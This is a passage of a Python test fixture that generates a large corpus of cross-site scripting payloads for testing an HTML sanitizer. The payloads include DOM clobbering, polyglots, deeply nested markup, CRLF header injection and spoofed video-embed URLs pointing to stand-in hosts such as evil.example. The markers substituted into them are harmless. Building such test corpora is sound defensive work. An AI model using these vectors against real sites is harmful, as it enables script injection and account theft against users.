    "<object id=editable name=editable data=EVIL></object>",
    "<embed name=location>",
    "<html id=x name=y><head id=head><body id=main class=x>",
    "<h2 id=main>x</h2>",
    "<p id=plays name=plays>x</p>",
    "<p class='ProseMirror rich play sheet' lang=x dir=rtl hidden>x</p>",
    "<p slot=x part=y exportparts=z>x</p>",
    "<p contenteditable=true spellcheck=false>x</p>",
    "<p role=status aria-live=assertive data-editable-status=saved>x</p>",
    "<p data-editable=text/home.headline/value data-editable-kind=text data-editable-etag=x>x</p>",
    "<p data-editable=user/1/name data-editable-kind=rich_text data-editable-bounds={}>x</p>",
    "<p data-editable-kind=evil data-evil-target=x>x</p>",
    "<p data-controller=evil data-action='click->evil#run load@window->evil#run'>x</p>",
    "<p data-pm-slice='1 1 []'>x</p>",
    "<p data-media=x>x</p>",
    "<p popover id=p>x</p><button popovertarget=p>y</button>",
    "<button command=show-modal commandfor=p>x</button><dialog id=p oncommand=JS>y</dialog>",
    "<p accesskey=x onclick=JS tabindex=1>x</p>",
    "<p draggable=true ondragstart=JS>x</p>",
    "<p itemscope itemid=javascript:JS itemprop=url>x</p>",
    "<p inert>x</p>",
    "<label for=email>x</label><output for=x onclick=JS>y</output>",
    "<editable-tools><img src=x onerror=JS></editable-tools>",
    "<input type=hidden name=csrf_token value=mine>",
    "<input form=sign-in name=next value=EVIL>",
    "<a href=/ target=evil>x</a>",
    "<a href=/ target=_top rel=noopener rel=opener>x</a>",
    "<a href=/ download=x.exe ping=EVIL referrerpolicy=unsafe-url>x</a>",
    "<a href=EVIL target='<script>JS</script>'>x</a>",
]


def clobbering():
    yield from CLOBBERING


# --- Deep, long and mixed ----------------------------------------------------

POLYGLOTS = [
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+JS//'>",
    "'\"--></style></script></noscript></template></xmp></iframe><svg onload=JS>",
    "\"'`><img src=x onerror=JS>{{7*7}}${7*7}<!--",
    "*/JS/*</script><img/src/onerror=JS>--><a href=javascript:JS>x",
    '</p></div><a href="javascript:JS" style="x:expression(JS)" onclick=\'JS\'>"\'>x</a><!-- ]]>',
    "%0d%0aContent-Type: text/html%0d%0a%0d%0a<script>JS</script>",
    "\r\nSet-Cookie: x=y\r\n\r\n<script>JS</script>",
    'x"></title><meta http-equiv=refresh content=0;EVIL><title>',
]


def long_ones():
    yield from POLYGLOTS
    yield "<p>" * 500 + PICTURE
    yield "<em>" * 600 + PICTURE
    yield "<ul><li>" * 300 + PICTURE
    yield "<blockquote>" * 520 + "<svg><style>" + PICTURE
    yield "<span>" * 600 + "<svg><foreignObject><style>" + PICTURE
    yield "<svg>" * 520 + "<style><a title='</style>" + PICTURE + "'>"
    yield "<math><mi>" * 260 + PICTURE
    yield "<template>" * 100 + PICTURE
    yield "<a href=javascript:JS>" * 100 + "x"
    yield "<a href='" + " " * 3000 + "javascript:JS'>x</a>"
    yield "<a href='" + "&#1;" * 500 + "javascript:JS'>x</a>"
    yield "<a href='" + "java" + "\n" * 3000 + "script:JS'>x</a>"
    yield "<img " + "a=b " * 900 + "src=x onerror=JS>"
    yield "<img " + "x" * 3000 + "=y src=x onerror=JS>"
    yield "<img alt='" + "x" * 3000 + "' src=x onerror=JS>"
    yield "<" + "x" * 3000 + " onclick=JS>y"
    yield "<!--" + "-" * 3000 + "><img src=x onerror=JS>"
    yield "<" * 3000 + "img src=x onerror=JS>"
    yield "&" * 1000 + "lt;img src=x onerror=JS>"
    yield "&#" + "0" * 3000 + "60;img src=x onerror=JS>"
    yield PICTURE * 100


# --- Videos ------------------------------------------------------------------

VIDEO = "https://youtu.be/dQw4w9WgXcQ"

VIDEO_ADDRESSES = [
    "javascript:JS",
    "javascript:JS//youtu.be/dQw4w9WgXcQ",
    "java\nscript:JS//youtu.be/dQw4w9WgXcQ",
    "&#1;javascript:JS",
    "javascript:JS#https://youtu.be/dQw4w9WgXcQ",
    "data:text/html;base64,B64HTML",
    "data:text/html,<script>JS</script>",
    "EVIL",
    "https:EVIL/watch?v=dQw4w9WgXcQ",
    "https:EVIL#//www.youtube.com/embed/dQw4w9WgXcQ",
    "https://youtube.com.evil.example/watch?v=dQw4w9WgXcQ",
    "https://www.youtube.com@evil.example/embed/dQw4w9WgXcQ",
    "https://evil.example\\@www.youtube.com/embed/dQw4w9WgXcQ",
    "https://player.vimeo.com.evil.example/video/76979871",
    "https://youtu.be/dQw4w9WgXcQ&quot; onclick=&quot;JS",
    "https://youtu.be/dQw4w9WgXcQ?&quot;&gt;&lt;img src=x onerror=JS&gt;",
    "https://youtu.be/dQw4w9WgXcQ#&quot;srcdoc=&quot;&lt;script&gt;JS&lt;/script&gt;",
    "https://youtu.be/&quot;onload=JS ",
    "https://vimeo.com/76979871/&quot;onclick=JS",
    "https://www.youtube.com/embed/..%2f..%2fEVIL",
]


def videos():
    for address in VIDEO_ADDRESSES:
        yield f'<figure data-video="{address}"></figure>'
        yield f'<figure data-video="{VIDEO}"><a href="{address}" data-player="{address}">x</a></figure>'
        yield f'<p><a href="/" data-video="{address}" data-player="{address}">x</a></p>'
    for inside in ("<img src=x onerror=JS>", "<svg><style></figure><img src=x onerror=JS>", "<script>JS</script>"):
        yield f'<figure data-video="{VIDEO}">{inside}</figure>'
        yield f'<figure data-video="{VIDEO}">' * 50 + inside + "</figure>" * 49 + inside
    yield f'<figure data-video="{VIDEO}" onclick=JS onmouseover=JS tabindex=0 onfocus=JS autofocus>x</figure>'
    yield f'<figure data-video="{VIDEO}" style="background:url(EVIL)"></figure>'
    yield f'<figure data-video="{VIDEO}"/data-video=javascript:JS>x'
    yield f'<math><mi><figure data-video="{VIDEO}"><style></math><img src=x onerror=JS>'
    yield f'<a href="javascript:JS"><figure data-video="{VIDEO}"></figure></a>'


FAMILIES = (event_handlers, spellings, addresses, mutations, breakouts, styles, clobbering, long_ones, videos)


def _written_out(markup, number):
    js = f"top.{harm_name(number)}=1"
    evil = f"//{FOREIGN_HOST}/{number}"
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{js}'/>"
    for word, meaning in (
        ("B64HTML", _base64(f"<script>{js}</script>")),
        ("B64SVG", _base64(svg)),
        ("B64", _base64(js)),
        ("JS", js),
        ("DIALOG", f"alert({number})"),
        ("EVIL", evil),
    ):
        markup = markup.replace(word, meaning)
    return markup


def _base64(text):
    return quote(base64.b64encode(text.encode()).decode())


PAYLOADS = [
    Payload(number, family.__name__, _written_out(markup, number))
    for number, (family, markup) in enumerate((family, markup) for family in FAMILIES for markup in family())
]

#: What no field takes, because no database keeps it: NUL and half characters.
UNSTORABLE = [
    payload
    for payload in PAYLOADS
    if any(character == "\0" or "\ud800" <= character <= "\udfff" for character in payload.markup)
]

STORABLE = [payload for payload in PAYLOADS if payload not in UNSTORABLE]
